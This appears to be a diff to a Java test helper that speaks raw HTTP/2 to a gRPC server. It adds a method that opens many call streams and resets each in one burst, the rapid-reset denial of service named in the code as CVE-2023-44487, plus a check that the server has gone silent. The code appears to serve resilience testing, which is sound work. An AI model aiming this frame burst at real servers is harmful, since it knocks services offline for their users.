@@ -8,9 +8,11 @@ import java.io.IOException;
 import java.io.OutputStream;
 import java.net.Socket;
 import java.net.SocketException;
+import java.net.SocketTimeoutException;
 import java.net.URI;
 import java.nio.ByteBuffer;
 import java.nio.charset.StandardCharsets;
+import java.time.Duration;
 import java.util.Arrays;
 import java.util.HashMap;
 import java.util.Map;
@@ -70,19 +72,39 @@ final class RawHttp2 implements AutoCloseable {
 
     /** Speaks on a connection that stands. */
     RawHttp2(Socket connected, int window) throws IOException {
+        this(connected);
+        out.write(greeting(window));
+    }
+
+    private RawHttp2(Socket connected) throws IOException {
         socket = connected;
         socket.setSoTimeout(PATIENCE_MILLIS);
         in = new DataInputStream(new java.io.BufferedInputStream(socket.getInputStream()));
         out = socket.getOutputStream();
-        out.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
-        send(
+    }
+
+    /** Connects, opens streams of a gRPC call and resets each, all in one piece from the first byte on. */
+    static RawHttp2 resettingAtOnce(URI server, String method, int times) throws IOException {
+        RawHttp2 connection = new RawHttp2(new Socket(server.getHost(), server.getPort()));
+        ByteArrayOutputStream piece = new ByteArrayOutputStream();
+        piece.writeBytes(greeting(65_535));
+        piece.writeBytes(connection.callsAndResets(method, times));
+        connection.out.write(piece.toByteArray());
+        return connection;
+    }
+
+    private static byte[] greeting(int window) {
+        ByteArrayOutputStream greeting = new ByteArrayOutputStream();
+        greeting.writeBytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
+        greeting.writeBytes(frame(
                 SETTINGS,
                 0,
                 0,
                 ByteBuffer.allocate(6)
                         .putShort((short) INITIAL_WINDOW_SIZE)
                         .putInt(window)
-                        .array());
+                        .array()));
+        return greeting.toByteArray();
     }
 
     /** Makes later calls with this token. */
@@ -128,13 +150,17 @@ final class RawHttp2 implements AutoCloseable {
 
     /** Opens streams of a gRPC call and resets each at once, all in one piece (CVE-2023-44487). */
     void callAndReset(String method, int times) throws IOException {
+        out.write(callsAndResets(method, times));
+    }
+
+    private byte[] callsAndResets(String method, int times) {
         byte[] headers = callHeaders(method);
         ByteArrayOutputStream piece = new ByteArrayOutputStream();
         for (int i = 0; i < times; i++, nextStream += 2) {
             piece.writeBytes(frame(HEADERS, END_HEADERS, nextStream, headers));
             piece.writeBytes(frame(RESET, 0, nextStream, CANCEL));
         }
-        out.write(piece.toByteArray());
+        return piece.toByteArray();
     }
 
     /** Asks for content with a header of so many bytes, in frames of the size that servers take. */
@@ -227,6 +253,19 @@ final class RawHttp2 implements AutoCloseable {
             if (fits.test(frame)) {
                 return frame;
             }
+        }
+    }
+
+    /** Returns whether the server says nothing more for so long and does not hang up either. */
+    boolean isSilentFor(Duration time) throws IOException {
+        socket.setSoTimeout((int) time.toMillis());
+        try {
+            int unused = in.read();
+            return false;
+        } catch (SocketTimeoutException e) {
+            return true;
+        } finally {
+            socket.setSoTimeout(PATIENCE_MILLIS);
         }
     }
 
